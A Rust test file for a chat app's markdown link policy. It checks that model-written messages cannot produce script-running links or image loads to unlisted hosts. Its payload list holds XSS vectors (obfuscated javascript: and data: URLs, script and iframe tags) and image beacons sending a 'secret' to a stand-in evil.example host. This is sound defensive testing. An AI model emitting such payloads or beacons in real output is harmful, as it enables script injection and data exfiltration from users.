//! What a message may link to and load, whatever a model was talked into writing.

use assisters_chat::markdown::{Block, Inline, LinkPolicy, parse};

/// Collects the destinations of links, and of images, in a message.
fn destinations(markdown: &str) -> (Vec<String>, Vec<String>) {
    fn inlines(list: &[Inline], found: &mut (Vec<String>, Vec<String>)) {
        for inline in list {
            match inline {
                Inline::Link { destination, children, .. } => {
                    found.0.push(destination.clone());
                    inlines(children, found);
                }
                Inline::Image { destination, .. } => found.1.push(destination.clone()),
                Inline::Styled(_, children) => inlines(children, found),
                Inline::Text(_) | Inline::Code(_) | Inline::Math { .. } | Inline::SoftBreak | Inline::HardBreak => {}
            }
        }
    }
    fn blocks(list: &[Block], found: &mut (Vec<String>, Vec<String>)) {
        for block in list {
            match block {
                Block::Container { children, .. } => blocks(children, found),
                Block::Text { inlines: list, .. } => inlines(list, found),
                Block::Code { .. } => {}
            }
        }
    }
    let mut found = (Vec::new(), Vec::new());
    blocks(&parse(markdown), &mut found);
    found
}

/// Attacks: none may become a link that runs something or an image that loads something.
const PAYLOADS: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](< javascript:alert(1)>)",
    "[x](&nbsp;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://page.example/1)",
    "[x](filesystem:https://page.example/1)",
    "[x](view-source:https://page.example)",
    "[x](about:blank)",
    "[x](intent://scan/#Intent;scheme=zxing;end)",
    "[x](ms-settings:)",
    "[x](ftp://files.example/x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]: <data:text/html,x> 'title'",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<JAVASCRIPT:alert(1)>",
    "[![x](data:image/svg+xml,y)](javascript:alert(1))",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example/share)",
    "[x](https://)",
    "[x](https:///evil.example)",
    "[x](https://evil example/)",
    "[x](http://%65vil.example/)",
    "[x](https://good.example:x@evil.example:port/)",
    "![x](https://evil.example/beacon.gif?secret=1)",
    "![x](//evil.example/beacon.gif)",
    "![x](/beacon.gif)",
    "![x](data:image/png;base64,AAAA)",
    "![x](https://images.example.evil.example/b.gif)",
    "![x](https://images.example@evil.example/b.gif)",
    "![x](https://evil.example/?images.example)",
    "![x](https://evil.example\\\\@images.example/b.gif)",
    "![x](http://images.example&#9;.evil.example/b.gif)",
    "![x][y]\n\n[y]: https://evil.example/b.gif",
    "<img src=https://evil.example/b.gif onerror=alert(1)>",
    "<script>fetch('https://evil.example')</script>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=https://evil.example>",
];

#[test]
fn no_attack_gets_through() {
    let policy = LinkPolicy { hosts: Some(vec!["good.example".to_owned()]), image_hosts: vec!["images.example".to_owned()] };
    for payload in PAYLOADS {
        let (links, images) = destinations(payload);
        assert!(!links.iter().any(|link| policy.allows_link(link)), "{payload:?} links to {links:?}");
        assert!(!images.iter().any(|image| policy.allows_image(image)), "{payload:?} loads {images:?}");
    }
    // Without a list of hosts, what is not an address of the web still is none.
    let open = LinkPolicy::default();
    for payload in &PAYLOADS[..30] {
        let (links, _) = destinations(payload);
        assert!(!links.iter().any(|link| open.allows_link(link)), "{payload:?} links to {links:?}");
    }
}

#[test]
fn links_that_are_allowed() {
    let open = LinkPolicy::default();
    let only = LinkPolicy { hosts: Some(vec!["example.com".to_owned(), "*.example.org".to_owned()]), image_hosts: Vec::new() };
    let rows: &[(&str, bool, bool)] = &[
        ("https://example.com", true, true),
        ("http://EXAMPLE.com:8080/a?b=c:d#e", true, true),
        ("https://user@example.com/", true, true),
        ("//example.com/a", true, true),
        ("https://a.example.org", true, true),
        ("https://a.b.example.org", true, true),
        ("https://example.org", true, false),
        ("https://notexample.org", true, false),
        ("https://evil.example", true, false),
        ("//evil.example", true, false),
        ("https://example.com.evil.example", true, false),
        ("https://example.com@evil.example", true, false),
        ("https://[::1]:8080/", true, false),
        ("https://münchen.example/ü", true, false),
        ("/help/returns#30-days", true, true),
        ("help", true, true),
        ("#section", true, true),
        ("?q=a:b", true, true),
        ("./a:b", true, true),
        // Not a scheme: attributes are set by name, so nobody decodes this again.
        ("javascript&colon;alert(1)", true, true),
        ("mailto:someone@example.net", true, true),
        ("TEL:+15550100", true, true),
        ("https://example.com/a b", true, true),
        ("", false, false),
        (" https://example.com", false, false),
        ("https://example.com\n", false, false),
        ("https://exam\u{0}ple.com", false, false),
        ("ftp://example.com", false, false),
        ("javascript:alert(1)", false, false),
        ("https:example.com", false, false),
        ("https://exa<mple.com", false, false),
    ];
    for (destination, anywhere, listed) in rows {
        assert_eq!(open.allows_link(destination), *anywhere, "{destination:?} with all hosts");
        assert_eq!(only.allows_link(destination), *listed, "{destination:?} with some hosts");
    }
}

#[test]
fn images_that_are_allowed() {
    let policy = LinkPolicy { hosts: None, image_hosts: vec!["images.example".to_owned(), "*.cdn.example".to_owned()] };
    for (destination, expected) in [
        ("https://images.example/a.png", true),
        ("//images.example/a.png", true),
        ("https://eu.cdn.example/a.png", true),
        ("https://cdn.example/a.png", false),
        ("https://example.com/a.png", false),
        ("/a.png", false),
        ("a.png", false),
        ("data:image/png;base64,AAAA", false),
        ("mailto:images.example", false),
    ] {
        assert_eq!(policy.allows_image(destination), expected, "{destination:?}");
        assert!(!LinkPolicy::default().allows_image(destination));
    }
}
